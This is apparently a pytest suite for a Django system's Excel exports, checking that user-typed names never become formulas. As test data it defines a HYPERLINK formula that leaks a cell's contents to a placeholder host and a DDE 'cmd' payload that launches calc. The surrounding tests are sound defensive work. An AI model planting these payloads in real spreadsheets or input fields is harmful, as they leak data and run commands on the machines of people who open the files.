"""Exports are safe to open (issue 7, finding 5): text a user typed never becomes a formula in
Excel or WPS. Every .xlsx the system writes goes through ``core.excel.write_cell``."""

from io import BytesIO

import pytest
from django.test import Client
from openpyxl import load_workbook

from mofan.core.excel import xlsx_bytes
from mofan.core.tests.test_outsiders import concrete, walk
from mofan.enterprise.models import Enterprise
from mofan.orgs.models import Person

LEAK = '=HYPERLINK("http://x?leak="&A1,"a")'
CALC = "=cmd|' /C calc'!A0"


def cells(content):
    wb = load_workbook(BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def formulas(content):
    return [f"{c.coordinate}: {c.value}" for c in cells(content) if c.data_type == "f"]


def as_text(content, text):
    """The cells holding exactly ``text``, each checked to be a quoted text cell."""
    found = [c for c in cells(content) if c.value == text]
    assert found, f"{text!r} 不在导出文件中"
    assert all(c.data_type == "s" and c.quotePrefix for c in found), text
    return found


@pytest.fixture
def poisoned(world):
    """A person and a company whose names are formulas, as a probe typed them."""
    from mofan.enterprise.tests.factories import first_demand

    Person.objects.create(name=LEAK, gender="M", org=world.section, political_status="cpc",
                          branch=world.branch)
    world.head_person.name = LEAK
    world.head_person.save()
    company = Enterprise.objects.create(org=world.organ, name=CALC, contact_name="+86 cmd")
    demand = first_demand(world)
    demand.enterprise = company
    demand.save()
    return world


# ------------------------------------------------------------------ the one function


@pytest.mark.parametrize("text", [LEAK, CALC, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_text_starting_with_a_formula_trigger_is_written_as_quoted_text(text):
    content = xlsx_bytes("表", ["名称"], [[text]])
    cell = load_workbook(BytesIO(content)).active["A2"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value.lstrip("\r\n\t") == text.lstrip("\r\t")  # XML reads a lone CR as LF


def test_negative_numbers_stay_numbers_and_plain_text_is_not_quoted():
    ws = load_workbook(BytesIO(xlsx_bytes("表", ["a", "b"], [[-5, "王股长"]]))).active
    assert ws["A2"].value == -5 and ws["A2"].data_type == "n" and not ws["A2"].quotePrefix
    assert ws["B2"].value == "王股长" and not ws["B2"].quotePrefix


def test_a_formula_in_the_title_line_and_headers_is_text_too():
    content = xlsx_bytes("表", ["=A1"], [], title="=1+1")
    assert formulas(content) == []
    as_text(content, "=1+1")
    as_text(content, "=A1")


def test_control_characters_that_xlsx_cannot_hold_are_dropped_not_a_server_error():
    ws = load_workbook(BytesIO(xlsx_bytes("表", ["a"], [["王\x01股\x1f长"]]))).active
    assert ws["A2"].value == "王股长"


def test_a_sheet_title_with_characters_excel_forbids_is_still_written():
    wb = load_workbook(BytesIO(xlsx_bytes("计划[2025]/审核?", ["a"], [])))
    assert wb.active.title == "计划_2025__审核_"


# ------------------------------------------------------------------ every export path


def test_generic_list_export_keeps_a_formula_name_as_text(poisoned):
    content = poisoned.client("admin").get("/orgs/people/?export=xlsx").content
    assert formulas(content) == []
    as_text(content, LEAK)


def test_company_list_export_keeps_a_formula_company_as_text(poisoned):
    content = poisoned.client("admin").get("/enterprise/companies/?export=xlsx").content
    assert formulas(content) == []
    as_text(content, CALC)
    as_text(content, "+86 cmd")


def test_ledger_export_keeps_a_formula_company_as_text(poisoned):
    content = poisoned.client("admin").get("/enterprise/demands/?export=xlsx").content
    assert formulas(content) == []
    as_text(content, CALC)


def test_ledger_export_title_with_a_formula_organ_name_is_text(poisoned):
    poisoned.organ.name = "=1+1"
    poisoned.organ.save()
    content = poisoned.client("admin").get("/enterprise/demands/?export=xlsx").content
    assert formulas(content) == []
    assert load_workbook(BytesIO(content)).active["A1"].quotePrefix


def test_responsibility_list_keeps_a_formula_leader_name_as_text(poisoned):
    url = f"/orgs/campaigns/{poisoned.campaign.pk}/duties.xlsx"
    content = poisoned.client("admin").get(url).content
    assert formulas(content) == []
    as_text(content, LEAK)


def test_study_compliance_export_keeps_a_formula_branch_name_as_text(poisoned):
    poisoned.branch.name = CALC
    poisoned.branch.save()
    response = poisoned.client("admin").get("/study/", {"year": 2025, "export": "xlsx"})
    assert formulas(response.content) == []
    as_text(response.content, CALC)


def test_audit_export_keeps_a_formula_username_from_a_failed_login_as_text(world):
    Client().post("/accounts/login/", {"username": LEAK, "password": "x"})
    response = world.client("auditor").get("/audit/", {"export": "xlsx"})
    assert response.status_code == 200
    assert formulas(response.content) == []
    found = [c for c in cells(response.content) if isinstance(c.value, str) and LEAK in c.value]
    assert found, "失败登录的用户名不在审计导出中"
    assert all(c.data_type == "s" for c in found)


def xlsx_urls():
    """Every list export and every import template of the URL map."""
    for pattern, route, name in walk():
        if "<" in route:
            continue
        if name.endswith("_import_template"):
            yield concrete(route, 0)
        elif getattr(pattern.callback, "view_initkwargs", {}).get("screens") and name.endswith(
                "_list"):
            yield concrete(route, 0) + "?export=xlsx"


@pytest.mark.parametrize("who", ["admin", "committee"])
def test_no_list_export_or_import_template_holds_a_formula_cell(poisoned, who):
    client = poisoned.client(who)
    checked, bad = 0, []
    for url in xlsx_urls():
        response = client.get(url)
        if response.status_code != 200 or not response["Content-Type"].startswith(
                "application/vnd.openxmlformats"):
            continue
        checked += 1
        bad += [f"{url} {f}" for f in formulas(response.content)]
    assert checked >= 20
    assert bad == []
